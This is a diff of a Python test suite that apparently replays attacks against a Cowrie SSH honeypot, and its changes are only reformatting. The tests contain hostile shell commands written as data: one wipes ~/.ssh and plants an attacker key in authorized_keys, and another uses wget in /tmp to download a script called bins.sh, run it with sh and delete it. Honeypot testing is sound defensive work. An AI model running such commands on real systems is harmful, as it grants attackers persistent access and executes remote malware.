@@ -105,9 +105,7 @@ async def telnet_port_scan(scene: Scene) -> None:
 async def ssh_public_key(scene: Scene) -> None:
     """A public key first, then a password that is right."""
     key = asyncssh.generate_private_key("ssh-ed25519")
-    async with ssh(
-        scene.cowrie.ssh_port, scene.attack.source, scene.software, passwords=[b"admin"], client_keys=[key]
-    ):
+    async with ssh(scene.cowrie.ssh_port, scene.attack.source, scene.software, passwords=[b"admin"], client_keys=[key]):
         pass
 
 
@@ -180,8 +178,7 @@ async def ssh_plant_key(scene: Scene) -> None:
     """The same key into authorized_keys everywhere: the commonest file there is."""
     scene.attack.expect(DOWNLOAD, SSH_KEY + b"\n")
     await scene.exec(
-        b'cd ~ && rm -rf .ssh && mkdir .ssh && echo "%s">>.ssh/authorized_keys && chmod -R go= ~/.ssh'
-        % SSH_KEY
+        b'cd ~ && rm -rf .ssh && mkdir .ssh && echo "%s">>.ssh/authorized_keys && chmod -R go= ~/.ssh' % SSH_KEY
     )
 
 
@@ -252,9 +249,7 @@ async def ssh_wget(scene: Scene) -> None:
     scene.attack.expect(DOWNLOAD, SERVED["bins.sh"])
     scene.attack.expect(DOWNLOAD, SERVED["bins.sh"])
     first, moved = scene.url("bins.sh", MALWARE_NAME), scene.url("moved")
-    await scene.exec(
-        f"cd /tmp; wget {first} -O bins.sh; wget -q {moved}; sh bins.sh; rm -rf bins.sh".encode()
-    )
+    await scene.exec(f"cd /tmp; wget {first} -O bins.sh; wget -q {moved}; sh bins.sh; rm -rf bins.sh".encode())
 
 
 async def ssh_curl(scene: Scene) -> None:
